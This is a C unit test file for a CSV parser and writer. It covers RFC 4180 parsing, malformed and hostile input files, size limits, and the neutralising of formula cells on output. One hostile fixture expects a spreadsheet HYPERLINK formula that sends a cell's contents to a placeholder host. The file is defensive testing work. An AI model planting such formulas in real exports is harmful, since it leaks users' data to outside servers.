/* SPDX-License-Identifier: Apache-2.0 */
#include "base/csv.h"

#include <stdio.h>
#include <string.h>

#include "support/check.h"

/* All rows as text: cells in [ ], rows ended by the number of their line. */
static bool read_all(Arena *arena, Str text, Str *out, Err *err)
{
    CsvReader reader;
    StrList row;
    bool more;
    Buf shown = buf_open(arena, 64 << 20);
    if (!csv_open(text, &reader, err)) return false;
    for (;;) {
        if (!csv_next(&reader, arena, &row, &more, err)) return false;
        if (!more) break;
        for (size_t i = 0; i < row.len; i++)
            buf_fmt(&shown, "[%.*s]", STR_ARG(row.at[i]));
        buf_fmt(&shown, "%zu ", reader.line);
    }
    *out = buf_str(&shown);
    return true;
}

static Str rows_of(Arena *arena, Str text)
{
    Err err   = { 0 };
    Str shown = { 0 };
    bool done = read_all(arena, text, &shown, &err);
    check_done(done, &err);
    return shown;
}

static void rows_and_cells_are_split_as_rfc_4180_says(void **state)
{
    check_str(rows_of(*state, STR("a,b\r\nc,d\r\n")), "[a][b]1 [c][d]2 ");
    check_str(rows_of(*state, STR("a,\"b, \"\"c\"\"\"\n,")), "[a][b, \"c\"]1 [][]2 ");
    check_str(rows_of(*state, STR("\"two\nlines\r\nthree\",x\ny")), "[two\nlines\r\nthree][x]1 [y]4 ");
    check_str(rows_of(*state, STR("\"\"\n\n\r\n\ra")), "[]1 [a]5 ");
    check_str(rows_of(*state, STR("\"\"\"\"")), "[\"]1 ");
    check_str(rows_of(*state, STR(" a , \t")), "[ a ][ \t]1 ");
    check_str(rows_of(*state, STR("")), "");
}

static const struct {
    const char *name;
    ErrCode expected;
    const char *says; /* rows, or a part of the error */
} hostile[] = {
    { "bom-utf8", ERR_NONE, "[Id]" },
    { "utf16le-bom", ERR_FORMAT, "UTF-16" },
    { "utf16be-nobom", ERR_FORMAT, "NUL byte" },
    { "latin1", ERR_FORMAT, "Line 2: it is not UTF-8" },
    { "lone-cr", ERR_NONE, "[Id][Title][Status][Severity]1 [C-1][x][pass][low]2 [C-2][y][fail][low]3 " },
    { "mixed-line-ends", ERR_NONE, "[Id][Title][Status][Severity]1 [M-1][x][pass][low]2 [M-2][y][fail][low]3 " },
    { "nul-bytes", ERR_FORMAT, "Line 2: it holds a NUL byte" },
    { "unterminated-quote", ERR_FORMAT, "Line 2: a cell begins with a quote that is never closed" },
    { "quote-in-middle", ERR_FORMAT, "Line 2: a quote stands inside a cell" },
    { "ragged", ERR_NONE, "[R-1][x][pass]2 [R-2][x][pass][low][extra]3 [R-3][x][pass][low]4 " },
    { "duplicate-header", ERR_NONE, "[Title]" },
    { "empty-header", ERR_NONE, "[]" },
    { "header-only", ERR_NONE, "]1 " },
    { "empty", ERR_NONE, "" },
    { "only-newlines", ERR_NONE, "" },
    { "duplicate-ids", ERR_NONE, "3 " },
    { "control-characters", ERR_NONE, "[a\ab\x1b[31mred\b]" },
    { "bidi-override", ERR_NONE, "2 " },
    { "bad-utf8", ERR_FORMAT, "Line 2: it is not UTF-8" },
    { "numbers", ERR_NONE, "[N-0][007][pass]" },
    { "formula-cells", ERR_NONE, "[=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")]" },
};

static void hostile_files_are_refused_or_read_as_the_manifest_says(void **state)
{
    for (size_t i = 0; i < countof(hostile); i++) {
        Err err   = { 0 };
        Str shown = { 0 };
        Str text  = data_file(*state, str_fmt(*state, "hostile/csv/%s.csv", hostile[i].name).ptr);
        bool done = read_all(*state, text, &shown, &err);
        if (err.code != hostile[i].expected) print_error("%s\n", hostile[i].name);
        if (hostile[i].expected == ERR_NONE)
            check_done(done, &err);
        else
            check_failed(done, &err, hostile[i].expected);
        if (hostile[i].expected != ERR_NONE) shown = str_from_c(err.detail);
        if (!str_has(shown, str_from_c(hostile[i].says))) fail_msg("%s: %.*s", hostile[i].name, STR_ARG(shown));
    }
}

static void limits_are_kept_to_the_cell_and_the_column(void **state)
{
    Err err   = { 0 };
    Str shown = { 0 };
    Buf wide  = buf_open(*state, 2 << 20);
    for (int i = 1; i < CSV_COLUMNS_MAX; i++)
        buf_add_byte(&wide, ',');
    check_done(read_all(*state, buf_str(&wide), &shown, &err), &err);
    for (int i = 0; i < 1000000; i++)
        buf_add_byte(&wide, ',');
    check_failed(read_all(*state, buf_str(&wide), &shown, &err), &err, ERR_LIMIT);

    char *letters = arena_array(*state, char, CSV_CELL_MAX + 1);
    memset(letters, 'x', CSV_CELL_MAX + 1);
    for (int quoted = 0; quoted < 2; quoted++) {
        Str fits = quoted ? str_fmt(*state, "\"%.*s\"", CSV_CELL_MAX, letters) : (Str){ letters, CSV_CELL_MAX };
        Str more = quoted ? str_fmt(*state, "\"%.*s\"", CSV_CELL_MAX + 1, letters) : (Str){ letters, CSV_CELL_MAX + 1 };
        err_clear(&err);
        check_done(read_all(*state, fits, &shown, &err), &err);
        check_failed(read_all(*state, more, &shown, &err), &err, ERR_LIMIT);
    }
}

static void the_line_of_an_error_counts_lines_inside_quotes(void **state)
{
    Err err   = { 0 };
    Str shown = { 0 };
    check_failed(read_all(*state, STR("a\r\n\"x\ny\rz\",b\"c\n"), &shown, &err), &err, ERR_FORMAT);
    assert_true(str_has(str_from_c(err.detail), STR("Line 4:")));
    err_clear(&err);
    check_failed(read_all(*state, STR("漢\n漢漢\n漢\xFF"), &shown, &err), &err, ERR_FORMAT);
    assert_true(str_has(str_from_c(err.detail), STR("Line 3:")));
}

static Str written(Arena *arena, Str cell)
{
    Buf out = buf_open(arena, 1000);
    csv_add_cell(&out, cell, true);
    return buf_str(&out);
}

static void a_cell_a_spreadsheet_would_run_is_written_as_text(void **state)
{
    check_str(written(*state, STR("=1+1")), "'=1+1");
    check_str(written(*state, STR("-5")), "'-5");
    check_str(written(*state, STR("@a,b")), "\"'@a,b\"");
    check_str(written(*state, STR("\tx")), "'\tx");
    check_str(written(*state, STR("\rx")), "\"'\rx\"");
    check_str(written(*state, STR("  =1")), "'  =1");
    check_str(written(*state, STR("＝1")), "'＝1");
    check_str(written(*state, STR("''=1")), "'''=1");
    check_str(written(*state, STR("'tis")), "'tis");
    check_str(written(*state, STR("a=b")), "a=b");
    check_str(written(*state, STR("")), "\"\"");
}

static void what_is_written_comes_back(void **state)
{
    static const char *const cells[] = { "",   "a",  "a,b", "say \"x\"", "two\nlines", "=1+1", "'=1+1",
                                         "'a", "''", "-",   "+49 40",    "\r=1",       " =1",  "漢" };
    Buf out                          = buf_open(*state, 10000);
    for (size_t i = 0; i < countof(cells); i++) {
        csv_add_cell(&out, str_from_c(cells[i]), true);
        csv_add_cell(&out, str_from_c(cells[i]), false);
        csv_end_row(&out);
    }
    CsvReader reader;
    StrList row;
    bool more;
    Err err = { 0 };
    check_done(csv_open(buf_str(&out), &reader, &err), &err);
    for (size_t i = 0; i < countof(cells); i++) {
        check_done(csv_next(&reader, *state, &row, &more, &err), &err);
        assert_true(more);
        assert_int_equal(row.len, 2);
        check_str(csv_cell_value(row.at[0]), cells[i]);
        check_str(csv_cell_value(row.at[1]), cells[i]);
    }
    check_done(csv_next(&reader, *state, &row, &more, &err), &err);
    assert_false(more);
}

#define MANY_BYTES ((size_t)1 << 30)

/* As read_all, from a file. */
static bool read_file(Arena *arena, Str text, Str *out, Err *err)
{
    Arena *rows = arena_open(MANY_BYTES);
    FILE *file  = tmpfile();
    Buf shown   = buf_open(arena, 64 << 20);
    bool more   = true, done;
    CsvFile csv;
    StrList row;

    assert_non_null(file);
    assert_int_equal(fwrite(text.ptr, 1, text.len, file), text.len);
    assert_int_equal(fflush(file), 0);
    done = csv_file_open(arena, fileno(file), &csv, err);
    while (done && more) {
        done = csv_file_next(&csv, rows, &row, &more, err);
        for (size_t i = 0; done && more && i < row.len; i++)
            buf_fmt(&shown, "[%.*s]", STR_ARG(row.at[i]));
        if (done && more) buf_fmt(&shown, "%zu ", csv.reader.line);
        arena_reset(rows);
    }
    arena_close(rows);
    fclose(file);
    *out = buf_str(&shown);
    return done;
}

/* Rows stand where the window of CSV_ROW_MAX bytes ends in every possible way. */
static void a_file_is_read_as_the_same_text_is(void **state)
{
    Arena *arena = arena_open(MANY_BYTES);
    (void)state;
    Str ends[] = { STR("a,b\r\nc,d\r\n"), STR("\"x\ny\",\xC3\xA9\r\rz,\"\"\"\"\n\n"), STR("p,q\nr,s") };

    for (size_t e = 0; e < countof(ends); e++) {
        for (size_t before = CSV_ROW_MAX - 6; before <= CSV_ROW_MAX + 1; before++) {
            ArenaMark mark = arena_mark(arena);
            Buf text       = buf_open(arena, 16 << 20);
            Str one = { 0 }, other = { 0 };
            Err err = { 0 };
            while (buf_str(&text).len + 4001 < before)
                buf_fmt(&text, "%04000d\n", 7);
            while (buf_str(&text).len < before)
                buf_add_byte(&text, '\n');
            buf_add(&text, ends[e]);
            check_done(read_all(arena, buf_str(&text), &one, &err), &err);
            check_done(read_file(arena, buf_str(&text), &other, &err), &err);
            assert_true(str_eq(one, other));
            arena_rewind(arena, mark);
        }
    }
    arena_close(arena);
}

static void a_file_is_refused_with_the_line_the_text_would_be(void **state)
{
    Arena *arena = arena_open(MANY_BYTES);
    (void)state;
    Buf text = buf_open(arena, 32 << 20);
    Str shown;

    for (int row = 1; row <= 700000; row++)
        buf_add(&text, STR("abcd,e\n"));
    static const char *const wrong[] = { "e,\"f\n", "e\"f\n", "\"e\"f\n", "e\xFF\n", "e\0f" };
    static const size_t wrong_lens[] = { 5, 4, 5, 3, 3 };
    for (size_t i = 0; i < countof(wrong); i++) {
        Err err = { 0 };
        Buf all = buf_open(arena, 32 << 20);
        buf_add(&all, buf_str(&text)), buf_add(&all, (Str){ wrong[i], wrong_lens[i] });
        assert_false(read_file(arena, buf_str(&all), &shown, &err));
        if (strstr(err.detail, "Line 700001: ") == NULL) fail_msg("%zu: %s", i, err.detail);
    }
    arena_close(arena);
}

static void a_row_longer_than_the_window_is_refused(void **state)
{
    Arena *arena = arena_open(MANY_BYTES);
    (void)state;
    Buf text = buf_open(arena, 32 << 20);
    Err err  = { 0 };
    Str shown;

    buf_add_c(&text, "a,b\n");
    for (int cell = 0; cell < 9; cell++)
        buf_fmt(&text, "%0600000d,", 7);
    assert_false(read_file(arena, buf_str(&text), &shown, &err));
    assert_int_equal(err.code, ERR_LIMIT);
    assert_non_null(strstr(err.detail, "Line 2: the row is longer"));
    arena_close(arena);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        arena_test(rows_and_cells_are_split_as_rfc_4180_says),
        arena_test(hostile_files_are_refused_or_read_as_the_manifest_says),
        arena_test(limits_are_kept_to_the_cell_and_the_column),
        arena_test(the_line_of_an_error_counts_lines_inside_quotes),
        arena_test(a_cell_a_spreadsheet_would_run_is_written_as_text),
        arena_test(what_is_written_comes_back),
        arena_test(a_file_is_read_as_the_same_text_is),
        arena_test(a_file_is_refused_with_the_line_the_text_would_be),
        arena_test(a_row_longer_than_the_window_is_refused),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
